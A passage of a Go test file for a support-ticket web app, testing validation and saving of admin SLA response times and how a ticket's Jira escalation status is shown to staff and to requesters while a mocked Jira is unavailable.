	a := signIn(t, env, "admin@example.org", "admin-secret-1")
	resp, page := a.get("/admin/support")
	if resp.StatusCode != 200 || !strings.Contains(control(page, "sla-urgent-first"), `value="1"`) ||
		!strings.Contains(page, `href="/admin/jira"`) {
		t.Fatalf("settings page: %d", resp.StatusCode)
	}
	form := func(change map[string]string) url.Values {
		v := url.Values{}
		for _, p := range []string{"low", "normal", "high", "urgent"} {
			v.Set("first_response_"+p, "8")
			v.Set("resolution_"+p, "72")
		}
		for k, x := range change {
			v.Set(k, x)
		}
		return v
	}
	for _, tc := range []struct {
		name   string
		change map[string]string
		field  string
		words  string
	}{
		{"not a number", map[string]string{"first_response_high": "four"}, "high", "Enter a number of hours"},
		{"resolution before first response", map[string]string{"first_response_low": "10", "resolution_low": "2"}, "low", "cannot be due before"},
		{"zero hours", map[string]string{"resolution_urgent": "0"}, "urgent", "more than 0"},
	} {
		resp, page := a.post("/admin/support", form(tc.change))
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("%s: %d", tc.name, resp.StatusCode)
			continue
		}
		msg := regexp.MustCompile(`id="err-sla-` + tc.field + `">([^<]*)<`).FindStringSubmatch(page)
		if msg == nil || !strings.Contains(msg[1], tc.words) {
			t.Errorf("%s: message %v", tc.name, msg)
		}
		for k, typed := range tc.change {
			id := "sla-" + strings.TrimPrefix(strings.TrimPrefix(k, "first_response_"), "resolution_")
			if strings.HasPrefix(k, "first_response_") {
				id += "-first"
			} else {
				id += "-resolution"
			}
			if !strings.Contains(control(page, id), `value="`+typed+`"`) {
				t.Errorf("%s: lost the typed %s", tc.name, k)
			}
		}
	}
	resp, _ = a.post("/admin/support", form(map[string]string{"first_response_urgent": "0,5", "resolution_urgent": "4"}))
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("save: %d", resp.StatusCode)
	}
	_, page = a.get("/admin/support?saved=1")
	if !strings.Contains(page, "SLA times saved.") || !strings.Contains(control(page, "sla-urgent-first"), `value="0.5"`) {
		t.Error("saved SLA not shown")
	}
	// A new urgent technical ticket gets the new clocks.
	a.get("/support/new?kind=technical")
	resp, _ = a.post("/support/new", url.Values{"kind": {"technical"}, "subject": {"Database full"}, "body": {"Disk at 100%"}, "priority": {"urgent"}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("technical ticket by an admin: %d", resp.StatusCode)
	}
	_, page = a.get(resp.Header.Get("Location"))
	if !strings.Contains(page, "due in 30 min") || !strings.Contains(page, "due in 4 h") {
		t.Error("the new ticket's clocks do not follow the saved SLA")
	}
}

func TestEscalationShowsJiraState(t *testing.T) {
	// A Jira that is down for maintenance: the outbox keeps retrying.
	down := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Retry-After", "3600")
		http.Error(w, "Jira is down for maintenance", http.StatusServiceUnavailable)
	}))
	t.Cleanup(down.Close)
	t.Setenv("PARLEY_JIRA_URL", down.URL)
	t.Setenv("PARLEY_JIRA_USER", "")
	t.Setenv("PARLEY_JIRA_TOKEN", "pat-1")
	t.Setenv("PARLEY_JIRA_PROJECT_CLIENT", "SUP")
	env := start(t)
	env.CreateUser("user@example.org", "user-secret-1", accounts.RoleUser)
	env.CreateUser("desk@example.org", "desk-secret-1", accounts.RoleSupport)
	u := signIn(t, env, "user@example.org", "user-secret-1")
	u.get("/support/new")
	resp, _ := u.post("/support/new", url.Values{"kind": {"client"}, "subject": {"Search finds nothing"}, "body": {"Empty results"}})
	path := fmt.Sprintf("/support/tickets/%d", ticketFromLocation(t, resp))
	if _, page := u.get(path); strings.Contains(page, `id="jira-box"`) {
		t.Error("the requester sees a Jira box before anything went to Jira")
	}

	d := signIn(t, env, "desk@example.org", "desk-secret-1")
	_, page := d.get(path)
	if !strings.Contains(page, `<button type="submit" id="escalate">`) {
		t.Fatal("no escalate button although the desk has a Jira project")
	}
	resp, _ = d.post(path+"/escalate", url.Values{})
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != path+"?done=escalated" {
		t.Fatalf("escalate: %d %s", resp.StatusCode, resp.Header.Get("Location"))
	}
	// Staff see that it waits, then why; the requester sees neutral words.
	deadline := time.Now().Add(20 * time.Second)
	for {
		_, page = d.get(path)
		if strings.Contains(page, `id="jira-error"`) {
			break
		}
		if !strings.Contains(page, `id="jira-waiting">Waiting for Jira…<`) {
			t.Fatalf("the staff page shows neither the wait nor an error: %s", page[strings.Index(page, `id="jira-box"`):][:600])
		}
		if time.Now().After(deadline) {
			t.Fatal("no Jira error shown after 20 s")
		}
		time.Sleep(20 * time.Millisecond)
	}
	jiraErr := regexp.MustCompile(`id="jira-error">([^<]+)<`).FindStringSubmatch(page)[1]
	if !strings.Contains(page, "Next try:") || strings.Contains(page, `id="escalate"`) || !strings.Contains(page, "Handed to development (Jira).") {
		t.Error("the staff page lacks the next try, still offers escalation, or the thread lacks the escalation")
	}
	_, page = u.get(path)
	if !strings.Contains(page, "Your request is being passed to the development team.") || strings.Contains(page, jiraErr) {
		t.Errorf("the requester's Jira box: %s", page[strings.Index(page, `id="jira-box"`):][:400])
	}
	resp, page = d.post(path+"/escalate", url.Values{})
	if resp.StatusCode != http.StatusConflict || !strings.Contains(page, "already has a Jira issue") {
		t.Errorf("escalating twice: %d", resp.StatusCode)
	}
}
